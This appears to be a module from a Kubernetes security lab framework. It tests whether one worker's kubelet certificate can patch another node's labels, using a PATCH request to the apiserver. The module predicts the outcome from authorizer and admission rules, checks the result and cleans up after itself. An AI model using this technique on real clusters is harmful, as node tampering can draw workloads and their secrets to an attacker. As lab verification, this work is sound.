"""Change another node's object with the worker's own kubelet's certificate.

A node's labels and taints decide which pods come to it; whoever writes those of other nodes
draws workloads, and their secrets, to himself. The Node authorizer lets every kubelet write
nodes; it is the admission plugin NodeRestriction that holds it to its own.
"""

from __future__ import annotations

import json
from typing import TYPE_CHECKING

from labkit.errors import ProbeError
from labkit.model import View
from labkit.model.rights import Action, restricted
from labkit.techniques._access import CHANNEL, api_url, apiserver_of, may_all
from labkit.techniques._ask import ask
from labkit.techniques._base import OUTSIDE, ROOT_ON_WORKER, Prediction, Technique
from labkit.techniques._reach import Answer
from labkit.techniques._verdict import Verdict
from labkit.techniques._worker import caller, carried, own_node

if TYPE_CHECKING:
    from labkit.lab import Lab

__all__ = ["TECHNIQUE"]

OTHER, LABEL = "worker2", "labkit-attack"
ACTION = Action("patch", "nodes", name=OTHER)


def predict(view: View, foothold: str) -> Prediction:
    """Say what the model says: the authorizer first, then the admission plugin."""
    kubelet = caller(view.env, "kubelet")
    allowed = may_all(view, kubelet, [ACTION])
    objection = restricted(apiserver_of(view.env), kubelet)
    if not allowed.succeeds or objection is None:
        return allowed
    return Prediction(False, (str(objection),))


def execute(lab: Lab, foothold: str) -> Verdict:
    """Put a label on worker2, with the certificate of worker1's kubelet."""

    def proof(answer: Answer) -> str:
        labels = json.loads(answer.body)["metadata"]["labels"]
        if LABEL not in labels:
            raise ProbeError(f"the apiserver answered, but {OTHER} has no such label")
        return f"worker1's kubelet labelled {OTHER}"

    patch = json.dumps({"metadata": {"labels": {LABEL: "1"}}}).encode()
    kind = ("--header", "Content-Type: application/merge-patch+json")
    with carried(lab, foothold, "kubelet") as options:
        try:
            return ask(
                lab,
                TECHNIQUE.name,
                foothold,
                api_url(lab, f"/api/v1/nodes/{OTHER}"),
                method="PATCH",
                body=patch,
                options=[*kind, *options],
                proof=proof,
                control=lambda: own_node(lab, foothold, options),
            )
        finally:
            lab.kubectl("label", "node", OTHER, f"{LABEL}-")


TECHNIQUE = Technique(
    name="node-writes-other-node",
    title="Change another node with a kubelet's certificate",
    footholds=(ROOT_ON_WORKER, OUTSIDE),
    grants=(),
    about=CHANNEL,
    properties=("authorization",),
    attack=("T1098", "T1565.001"),
    stride=("tampering", "elevation of privilege"),
    cwe=("CWE-269",),
    sources=(
        "Securing communications in Kubernetes (2016), Least privilege in Kubernetes APIs",
        "https://kubernetes.io/docs/reference/access-authn-authz/admission-controllers/",
        "https://attack.mitre.org/techniques/T1098/",
    ),
    predict=predict,
    execute=execute,
)
